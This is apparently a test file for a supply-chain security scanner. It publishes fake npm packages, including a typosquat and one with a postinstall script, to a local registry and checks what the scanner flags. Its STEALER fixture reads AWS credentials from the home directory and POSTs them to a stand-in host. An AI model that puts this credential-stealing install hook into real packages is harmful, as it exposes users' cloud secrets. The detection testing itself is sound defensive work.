import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Finding } from '../../../src/core/finding.js';
import { isRegistrySource } from '../../../src/scanners/supply-chain/scan.js';
import { runCli } from '../../helpers/cli.js';
import { tempDir, writeTree } from '../../helpers/tmp.js';
import { backdate, startVerdaccio, type VerdaccioRegistry } from '../../helpers/verdaccio.js';

let registry: VerdaccioRegistry;
const project = tempDir();

const STEALER = [
  "const fs = require('fs');",
  "const https = require('https');",
  "const data = fs.readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8');",
  "https.request({ hostname: 'drop.example.test', method: 'POST' }).end(data);",
].join('\n');

function lockEntry(name: string, version: string): object {
  return { version, resolved: `${registry.url}${name}/-/${name}-${version}.tgz` };
}

before(async () => {
  registry = await startVerdaccio();
  for (const version of ['1.0.0', '1.1.0', '1.2.0']) await registry.publish({ name: 'steady-lib', version });
  backdate(registry, 'steady-lib');
  await registry.publish({ name: 'expresss', version: '1.0.0' });
  await registry.publish({ name: 'helpful-setup', version: '1.0.0', scripts: { postinstall: 'node install.js' } }, { 'install.js': STEALER });

  const manifest = {
    name: 'shop',
    version: '1.0.0',
    dependencies: { 'steady-lib': '^1.2.0', expresss: '1.0.0', 'helpful-setup': '1.0.0', 'stripe-webhook-signature-verifier': '^1.2.0', 'local-lib': 'file:../local-lib' },
  };
  const lock = {
    name: 'shop',
    version: '1.0.0',
    lockfileVersion: 3,
    requires: true,
    packages: {
      '': { name: 'shop', version: '1.0.0', dependencies: { 'steady-lib': '^1.2.0', expresss: '1.0.0', 'helpful-setup': '1.0.0' } },
      'node_modules/steady-lib': lockEntry('steady-lib', '1.2.0'),
      'node_modules/expresss': lockEntry('expresss', '1.0.0'),
      'node_modules/helpful-setup': { ...lockEntry('helpful-setup', '1.0.0'), hasInstallScript: true },
    },
  };
  writeTree(project, {
    'package.json': `${JSON.stringify(manifest, null, 2)}\n`,
    'package-lock.json': `${JSON.stringify(lock, null, 2)}\n`,
    'src/app.js': [
      "const steady = require('steady-lib');",
      "const fs = require('node:fs');",
      "const helper = require('./helper');",
      "const pad = require('left-padder-x');",
      '',
    ].join('\n'),
    'src/helper.js': 'module.exports = {};\n',
  });
});

after(async () => {
  await registry.stop();
});

function env(): NodeJS.ProcessEnv {
  const home = tempDir();
  return { HOME: home, RAMPART_CACHE_DIR: join(home, 'cache'), npm_config_registry: registry.url, PIP_INDEX_URL: 'http://127.0.0.1:9/simple/' };
}

async function scan(extra: string[] = []): Promise<{ findings: Finding[]; warnings: string[]; code: number }> {
  const result = await runCli(['scan', project, '--scanners', 'supply-chain', '--format', 'json', ...extra], project, env());
  assert.notEqual(result.stdout, '', result.stderr);
  const report = JSON.parse(result.stdout) as { findings: Finding[]; warnings?: string[] };
  return { findings: report.findings, warnings: report.warnings ?? [], code: result.code };
}

function summary(findings: Finding[]): string[] {
  return findings.map((finding) => `${finding.ruleId} ${finding.severity} ${finding.location.path}:${finding.location.startLine}`).sort();
}

describe('supply-chain scan', () => {
  it('reports each signal where it is', async () => {
    const { findings, code } = await scan();
    assert.equal(code, 1);
    assert.deepEqual(summary(findings), [
      'supply-chain/exfiltration critical package-lock.json:24',
      'supply-chain/few-versions low package-lock.json:20',
      'supply-chain/few-versions low package-lock.json:24',
      'supply-chain/install-script medium package-lock.json:24',
      'supply-chain/new-package medium package-lock.json:20',
      'supply-chain/new-package medium package-lock.json:24',
      'supply-chain/not-found critical package.json:8',
      'supply-chain/typosquat high package-lock.json:20',
      'supply-chain/undeclared-import high src/app.js:4',
    ]);
    const stealer = findings.find((finding) => finding.ruleId === 'supply-chain/exfiltration')!;
    assert.match(stealer.message, /^helpful-setup@1\.0\.0: package\/install\.js:3: /);
    const invented = findings.find((finding) => finding.ruleId === 'supply-chain/undeclared-import')!;
    assert.deepEqual([invented.location.startColumn, invented.location.endColumn], [22, 35]);
  });

  it('names the imitated package', async () => {
    const { findings } = await scan();
    const typo = findings.find((finding) => finding.ruleId === 'supply-chain/typosquat')!;
    assert.match(typo.message, /^expresss@1\.0\.0: "expresss" repeats or drops a character of the npm package "express"/);
    assert.equal(typo.package?.name, 'expresss');
    assert.equal(typo.scanner, 'supply-chain');
  });

  it('reports unknown offline, never safe', async () => {
    const { findings, warnings } = await scan(['--offline']);
    assert.deepEqual(summary(findings), ['supply-chain/typosquat high package-lock.json:20']);
    assert.ok(
      warnings.some((warning) => /^registry checks could not run for 5 of 5 packages \(offline\): whether they exist/.test(warning)),
      warnings.join('\n'),
    );
  });
});

describe('supply-chain scan edge cases', () => {
  it('judges exact pins at their version', async () => {
    const dir = tempDir();
    writeTree(dir, { 'package.json': JSON.stringify({ name: 'lib', dependencies: { 'steady-lib': '1.1.0', expresss: '^1.0.0' } }) });
    const result = await runCli(['scan', dir, '--scanners', 'supply-chain', '--format', 'json', '--no-progress'], dir, env());
    const report = JSON.parse(result.stdout) as { findings: Finding[] };
    assert.deepEqual(report.findings.map((finding) => finding.message.split(':')[0]).sort(), ['expresss@1.0.0', 'expresss@1.0.0', 'expresss@1.0.0']);
  });

  it('reports a partial mirror once', async () => {
    const dir = tempDir();
    const packages: Record<string, object> = { '': { name: 'app', version: '1.0.0' } };
    for (let index = 0; index < 12; index += 1) packages[`node_modules/internal-only-${index}`] = { version: '1.0.0' };
    writeTree(dir, { 'package-lock.json': JSON.stringify({ name: 'app', lockfileVersion: 3, packages }) });
    const result = await runCli(['scan', dir, '--scanners', 'supply-chain', '--format', 'json'], dir, env());
    const report = JSON.parse(result.stdout) as { findings: Finding[]; warnings: string[] };
    assert.deepEqual(report.findings, []);
    assert.ok(report.warnings.some((warning) => warning.startsWith('12 of 12 locked npm packages are not on the registry Rampart asked')), report.warnings.join('\n'));
  });
});

describe('isRegistrySource', () => {
  it('tells registry tarballs from others', () => {
    assert.equal(isRegistrySource('npm', undefined), true);
    assert.equal(isRegistrySource('npm', 'https://npm.corp.example/artifactory/api/npm/npm/left-pad/-/left-pad-1.3.0.tgz'), true);
    assert.equal(isRegistrySource('npm', 'git+ssh://git@github.com/a/b.git#abc'), false);
    assert.equal(isRegistrySource('npm', 'file:../lib'), false);
    assert.equal(isRegistrySource('npm', 'https://example.test/tarballs/x.tgz'), false);
    assert.equal(isRegistrySource('PyPI', 'https://pypi.corp.example/simple'), true);
    assert.equal(isRegistrySource('PyPI', 'https://example.test/pkg-1.0-py3-none-any.whl'), false);
  });
});
